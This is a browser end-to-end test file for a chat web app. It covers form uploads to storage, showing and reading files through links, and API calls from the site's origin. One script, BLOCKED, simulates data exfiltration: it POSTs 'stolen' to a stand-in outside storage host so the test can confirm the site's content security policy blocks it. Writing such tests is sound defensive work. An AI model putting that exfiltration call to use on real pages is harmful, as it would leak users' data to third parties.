"""Files in a page of the web site: uploaded by form, shown and read, in the stack's own storage alone."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from e2e.support.browser import page_of
from e2e.support.files import Files, png, send_file, web

if TYPE_CHECKING:
    from playwright.async_api import Page

    from e2e.support.parley import Parley
    from e2e.support.people import Person
    from harness.outputs import Outputs

pytestmark = pytest.mark.browser

UPLOAD = """([url, fields, bytes]) => new Promise((done) => {
  const form = new FormData();
  Object.entries(fields).forEach(([name, value]) => form.append(name, value));
  form.append("file", new Blob([new Uint8Array(bytes)]));
  const request = new XMLHttpRequest();
  let shown = 0;
  request.upload.onprogress = () => { shown += 1; };
  request.onloadend = () => done([request.status, shown > 0]);
  request.open("POST", url);
  request.send(form);
})"""
"""Uploads as a page does that shows how far it is, which makes browsers ask first (a CORS preflight)."""
SHOW = """(url) => new Promise((done) => {
  const image = new Image();
  image.crossOrigin = "anonymous"; // else the browser keeps an answer that READ may not read
  image.onload = () => done([image.naturalWidth, image.naturalHeight]);
  image.onerror = () => done(null);
  image.src = url;
})"""
READ = "(url) => fetch(url).then((answer) => answer.blob()).then((blob) => blob.size, () => null)"
BLOCKED = """(kind) => new Promise((done) => {
  document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
  if (kind === "image") new Image().src = "https://elsewhere.example/cat.png";
  else fetch("https://elsewhere.s3.us-east-1.example/", { method: "POST", body: "stolen" }).catch(() => {});
})"""


async def shown(page: Page, url: str) -> Any:
    """Show an image in the page; its width and height, None where the page may not or cannot."""
    return await page.evaluate(SHOW, url)


async def test_page_uploads_a_file_and_shows_and_reads_it(
    parley: Parley, stack: Outputs, alice: Person, bob: Person
) -> None:
    """By the form and the link as they come, under the site's own policy, with progress."""
    chat_id = await parley.direct_chat(alice, bob)
    image = png(64, 48)
    async with web() as storage, page_of(stack.web_url) as page:
        files = Files(parley, storage)
        form = await files.form(alice, chat_id, len(image))
        assert await page.evaluate(UPLOAD, [form.url, form.fields, list(image)]) == [204, True]
        async with parley.socket(alice) as socket:
            assert (await socket.ask(send_file(chat_id, 0, form.media_id)))["type"] == "ack"
        link = await files.link(bob, chat_id, form.media_id)
        assert await shown(page, link) == [64, 48]
        assert await page.evaluate(READ, link) == len(image)
        assert await shown(page, link.partition("?")[0]) is None


async def test_page_calls_the_http_api_and_nobody_elses(
    parley: Parley, stack: Outputs, alice: Person
) -> None:
    """The API admits the site's origin; the site's policy holds the page to what is the stack's."""
    call = "([url, headers]) => fetch(url, { headers }).then((answer) => answer.json())"
    async with page_of(stack.web_url) as page:
        url = str(parley.rest.base_url.join("users/me"))
        profile = await page.evaluate(call, [url, alice.authorization])
        assert profile["userId"] == alice.user_id
        assert await page.evaluate(BLOCKED, "image") == "img-src"
        assert await page.evaluate(BLOCKED, "fetch") == "connect-src"
